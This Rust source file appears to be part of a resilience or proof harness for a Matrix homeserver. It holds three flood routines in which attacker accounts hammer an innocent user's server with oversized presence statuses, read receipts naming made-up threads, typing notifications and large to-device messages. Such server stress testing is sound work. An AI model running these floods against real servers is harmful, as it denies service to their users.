//! What is not in any room's history: presence, receipts, typing, messages to devices.

use std::sync::Arc;

use http::Method;
use serde_json::{Map, json};

use crate::proof::account::part;
use crate::proof::neighbors::flood::{Round, round};
use crate::proof::neighbors::stage::{Stage, body};

/// Lengths of a status message to try: what fits into a body, and what is allowed.
const STATUS_SIZES: [usize; 2] = [20 << 20, 1_000];

/// Presence that changes all the time, with status messages as long as they may be, of people whom the innocent user shares a room with.
pub async fn presence(stage: Arc<Stage>) -> Round {
    let sizes = if stage.full {
        &STATUS_SIZES[..]
    } else {
        &STATUS_SIZES[1..]
    };
    let path = |task: usize| {
        let user = part(&stage.attacker(task).user_id);
        format!("/_matrix/client/v3/presence/{user}/status")
    };
    let of_size = |size: usize| {
        ["online", "unavailable"].map(|presence| {
            body(&json!({ "presence": presence, "status_msg": presence.repeat(size / presence.len()) }))
        })
    };
    let mut contents = of_size(sizes[sizes.len() - 1]);
    for &size in sizes {
        let [content, _] = of_size(size);
        let path = path(0);
        let asked = stage.attackers[0].send_bytes(Method::PUT, &path, content);
        if asked.await.is_ok_and(|status| status.is_success()) {
            contents = of_size(size);
            break;
        }
    }
    let paths: Vec<_> = (0..stage.attackers.len()).map(path).collect();
    round(move |task, number| {
        let (stage, content) = (stage.clone(), contents[number % 2].clone());
        let path = paths[task % paths.len()].clone();
        async move { stage.fire(task, Method::PUT, &path, content).await }
    })
}

/// Receipts in many threads, of which every second one does not exist, and typing, in the room that the innocent user is in.
pub async fn receipts(stage: Arc<Stage>) -> Round {
    let room = part(&stage.lounge);
    let mut events = Vec::new();
    for number in 0..stage.size(5, 200) {
        let path = format!("/_matrix/client/v3/rooms/{room}/send/m.room.message/read-{number}");
        let content = json!({ "msgtype": "m.text", "body": "read me" });
        let sent = stage.attackers[0].put(&path, &content).await;
        events.push(sent["event_id"].as_str().expect("an event").to_owned());
    }
    round(move |task, number| {
        let (stage, room) = (stage.clone(), room.clone());
        let event = part(&events[events.len() - 1]);
        let thread = match number % 4 {
            0 => events[(task * 7 + number / 4) % events.len()].clone(),
            _ => format!("$made-up-{task}-{number}"),
        };
        async move {
            if number % 2 == 0 {
                let path = format!("/_matrix/client/v3/rooms/{room}/receipt/m.read/{event}");
                let thread = json!({ "thread_id": thread });
                return stage.fire(task, Method::POST, &path, body(&thread)).await;
            }
            let user = part(&stage.attacker(task).user_id);
            let path = format!("/_matrix/client/v3/rooms/{room}/typing/{user}");
            let typing = json!({ "typing": number % 4 == 1, "timeout": 30_000 });
            stage.fire(task, Method::PUT, &path, body(&typing)).await
        }
    })
}

/// Messages to all devices of everybody who makes the flood, as large as they may be.
pub async fn to_device(stage: Arc<Stage>) -> Round {
    let text = "x".repeat(stage.size(1_000, 60_000));
    let everybody: Map<_, _> = stage
        .attackers
        .iter()
        .map(|one| (one.user_id.clone(), json!({ "*": { "text": text } })))
        .collect();
    let content = body(&json!({ "messages": everybody }));
    round(move |task, number| {
        let (stage, content) = (stage.clone(), content.clone());
        let path = format!("/_matrix/client/v3/sendToDevice/m.flood/{task}-{number}");
        async move { stage.fire(task, Method::PUT, &path, content).await }
    })
}
